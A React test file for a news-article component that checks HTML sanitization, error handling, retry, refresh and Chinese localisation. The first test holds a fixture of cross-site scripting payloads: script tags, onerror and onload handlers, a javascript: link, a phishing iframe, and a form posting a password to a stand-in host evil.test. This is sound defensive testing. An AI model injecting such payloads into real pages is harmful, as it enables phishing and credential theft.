import { act, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { ApiError } from '@instalment/host-sdk/http';
import { createTestHost, renderWithHost } from '@instalment/testing/host';
import { newsDetail } from '../testing/fixtures';
import NewsDetail from './NewsDetail';

const HOSTILE = `
  <p>Rates change on <strong>1 April</strong>.</p>
  <script>window.pwned = true</script>
  <img src="x" onerror="window.pwned = true">
  <a href="javascript:alert(1)">claim your prize</a>
  <iframe src="https://evil.test/phish"></iframe>
  <svg onload="window.pwned = true"><circle r="5"></circle></svg>
  <form action="https://evil.test/steal"><input name="password"><button>log in</button></form>
  <p style="position:fixed;inset:0" onclick="window.pwned = true">Read the notice.</p>
  <img src="https://cdn.test/table.png" alt="new rates table">
  <a href="https://bank.test/notice">full notice</a>`;

describe('NewsDetail', () => {
  it('shows title, author and date, and the article sanitized', async () => {
    const { host, api } = createTestHost();
    api.news.newsDetail.mockResolvedValue(newsDetail(7, HOSTILE, { title: 'New rates' }));
    const { container } = renderWithHost(host, <NewsDetail query={{ id: '7' }} />);

    expect(await screen.findByRole('heading', { level: 2, name: 'New rates' })).toBeInTheDocument();
    expect(screen.queryByRole('heading', { level: 1 })).not.toBeInTheDocument();
    expect(screen.getByText('by Platform desk')).toBeInTheDocument();
    expect(screen.getByText('Mar 5, 2026')).toBeInTheDocument();
    expect(api.news.newsDetail).toHaveBeenCalledWith({ id: '7' }, expect.objectContaining({ toast: false }));

    // None of the hostile parts reached the DOM.
    for (const selector of ['script', 'iframe', 'svg', 'form', 'input', 'button', '[style]', 'a[href^="javascript"]']) {
      expect(container.querySelector(selector)).toBeNull();
    }
    const handlers = [...container.querySelectorAll('*')].flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith('on')),
    );
    expect(handlers).toEqual([]);
    expect((window as { pwned?: boolean }).pwned).toBeUndefined();

    // The article itself did.
    expect(screen.getByText('1 April')).toBeInTheDocument();
    expect(screen.getByText('Read the notice.')).toBeInTheDocument();
    const image = screen.getByRole('img', { name: 'new rates table' });
    expect(image).toHaveAttribute('src', 'https://cdn.test/table.png');
    expect(image).toHaveAttribute('loading', 'lazy');
    const link = screen.getByRole('link', { name: 'full notice' });
    expect(link).toHaveAttribute('href', 'https://bank.test/notice');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    expect(screen.getByText('claim your prize')).not.toHaveAttribute('href');
  });

  it.each([
    ['no id', {}],
    ['an empty id', { id: '' }],
    ['an id that is not a number', { id: 'abc' }],
  ])('shows not found for %s without asking the server', async (_case, query) => {
    const { host, api } = createTestHost();
    renderWithHost(host, <NewsDetail query={query} />);

    expect(screen.getByRole('status')).toHaveTextContent('This article does not exist or has been removed.');
    expect(api.news.newsDetail).not.toHaveBeenCalled();
    await userEvent.click(screen.getByRole('button', { name: 'back to news' }));
    expect(host.navigate).toHaveBeenCalledWith('/pages/news/list', undefined, { replace: true });
  });

  it('shows not found, and only that, for an article the server does not know', async () => {
    const { host, api } = createTestHost();
    api.news.newsDetail.mockRejectedValue(new ApiError('news not found', 0));
    renderWithHost(host, <NewsDetail query={{ id: '999' }} />);

    expect(await screen.findByText('This article does not exist or has been removed.')).toBeInTheDocument();
    expect(api.news.newsDetail).toHaveBeenCalledWith({ id: '999' }, expect.objectContaining({ toast: false }));
    expect(host.ui.toast).not.toHaveBeenCalled();
    expect(screen.getByRole('button', { name: 'back to news' })).toBeInTheDocument();
  });

  it('offers a retry when the article could not be loaded', async () => {
    const { host, api } = createTestHost();
    api.news.newsDetail.mockRejectedValueOnce(new ApiError('network connection failed', 'network'));
    api.news.newsDetail.mockResolvedValue(newsDetail(7, '<p>Body</p>'));
    renderWithHost(host, <NewsDetail query={{ id: '7' }} />);

    expect(await screen.findByRole('alert')).toHaveTextContent('This article could not be loaded.');
    await userEvent.click(screen.getByRole('button', { name: 'retry' }));
    expect(await screen.findByText('Body')).toBeInTheDocument();
  });

  it('reloads the article on pull-down refresh, without the overlay', async () => {
    const { host, api } = createTestHost();
    api.news.newsDetail.mockResolvedValueOnce(newsDetail(7, '<p>First version</p>'));
    api.news.newsDetail.mockResolvedValueOnce(newsDetail(7, '<p>Corrected version</p>'));
    renderWithHost(host, <NewsDetail query={{ id: '7' }} />);
    await screen.findByText('First version');
    expect(api.news.newsDetail).toHaveBeenLastCalledWith({ id: '7' }, { toast: false, loading: true });

    await act(async () => {
      await Promise.all(host.refresh.emit());
    });

    expect(api.news.newsDetail).toHaveBeenCalledTimes(2);
    expect(api.news.newsDetail).toHaveBeenLastCalledWith({ id: '7' }, { toast: false, loading: false });
    expect(screen.getByText('Corrected version')).toBeInTheDocument();
    expect(screen.queryByText('First version')).not.toBeInTheDocument();
  });

  it('keeps the article and says so when a refresh fails, and shows not found once it is taken down', async () => {
    const { host, api } = createTestHost();
    api.news.newsDetail.mockResolvedValueOnce(newsDetail(7, '<p>Body</p>'));
    renderWithHost(host, <NewsDetail query={{ id: '7' }} />);
    await screen.findByText('Body');

    api.news.newsDetail.mockRejectedValueOnce(new ApiError('network connection failed', 'network'));
    await act(async () => {
      await Promise.all(host.refresh.emit());
    });
    expect(screen.getByText('Body')).toBeInTheDocument();
    expect(screen.getByRole('alert')).toHaveTextContent('Could not refresh; showing the last loaded version.');

    api.news.newsDetail.mockRejectedValueOnce(new ApiError('news not found', 0));
    await act(async () => {
      await Promise.all(host.refresh.emit());
    });
    expect(screen.queryByText('Body')).not.toBeInTheDocument();
    expect(screen.getByText('This article does not exist or has been removed.')).toBeInTheDocument();
  });

  it('speaks Chinese when the reader does', async () => {
    const { host, api } = createTestHost({ locale: 'zh-CN' });
    api.news.newsDetail.mockRejectedValue(new ApiError('news not found', 0));
    renderWithHost(host, <NewsDetail query={{ id: '5' }} />);
    expect(await screen.findByText('该资讯不存在或已下架')).toBeInTheDocument();
    expect(screen.getByRole('button', { name: '返回资讯列表' })).toBeInTheDocument();
  });
});
